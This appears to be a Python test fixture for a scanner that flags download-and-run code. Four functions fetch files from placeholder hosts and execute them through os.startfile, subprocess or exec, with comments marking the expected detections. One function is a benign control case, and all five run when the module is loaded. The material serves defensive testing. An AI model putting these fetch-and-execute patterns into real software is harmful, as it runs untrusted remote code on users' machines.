import os
import subprocess
import sys
import tempfile
import urllib.request

import requests


def first():
    target = os.path.join(tempfile.gettempdir(), "first.exe")
    urllib.request.urlretrieve("https://files.acme-cdn.example/a", target)
    os.startfile(target)  # expect: download-and-run


def second():
    with tempfile.NamedTemporaryFile(delete=False, suffix=".py") as file:
        file.write(requests.get("https://files.acme-cdn.example/b").content)
    subprocess.Popen([sys.executable, file.name])


def save(address, target):
    answer = requests.get(address, stream=True)
    with open(target, "wb") as file:
        for part in answer.iter_content(1024):
            file.write(part)


def third():
    save("https://files.acme-cdn.example/c", "/tmp/third")
    os.chmod("/tmp/third", 0o755)
    subprocess.Popen(["/tmp/third"])  # expect: download-and-run


def fourth():
    save("https://api.acme-cdn.example/notes", "notes.json")
    subprocess.run(["git", "status"])


def fifth():
    lines = urllib.request.urlopen("https://store.acme-cdn.example/e").readlines()
    exec("\n".join(line.decode() for line in lines))  # expect: download-and-run


first()
second()
third()
fourth()
fifth()
